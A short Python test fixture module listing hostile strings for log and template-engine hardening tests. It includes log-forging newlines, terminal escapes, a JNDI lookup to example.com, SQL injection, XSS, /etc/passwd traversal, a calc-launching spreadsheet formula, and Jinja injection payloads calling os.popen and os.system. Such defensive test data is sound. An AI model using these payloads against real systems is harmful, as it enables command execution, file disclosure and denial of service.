"""Texts that try to be more than text."""

from __future__ import annotations

FORGED = "2026-01-01 00:00:00,000 INFO app.web.contexts forged: POST /v1/models 200 in 0 ms"

# For logs and terminals.
LINES = [
    f"a\n{FORGED}",
    f"a\r\n{FORGED}",
    f"a\r{FORGED}",
    f"a\u2028{FORGED}",
    f"a\u2029{FORGED}",
    f"a\x85{FORGED}",
    f"a\x0b{FORGED}",
    f"a\x0c{FORGED}",
    f"a\x1c{FORGED}",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b[31mred",
    "\x9b31m",
    "\x08\x08\x08back",
    "\x7f" * 8,
    "\u202eright to left",
    "\u200b\u2066isolate",
    "%s%s%s%n%d",
    "%(asctime)s %(message)s",
    "{0.__class__} {request.environ}",
    "${jndi:ldap://example.com/a}",
    "{{ 7 * 7 }} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE models; --",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "a" * 50_000,
    "\u0300" * 1000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\\n\\r\\x00",
    "=cmd|' /C calc'!A1",
]

# For template engines. None may become anything else.
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# a comment #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('id') }}",
    "{{ self._TemplateReference__context }}",
    "{{ messages | tojson }}",
    "{{ raise_exception('x') }}",
    "{% include '/etc/passwd' %}",
    "{% set messages = [] %}",
    "{{ bos_token }}{{ eos_token }}",
    "{{ 'a' * 200000000 }}",
    "{{ '%0500000000d' | format(1) }}",
    "{% raw %}{{ 1 }}{% endraw %}",
]
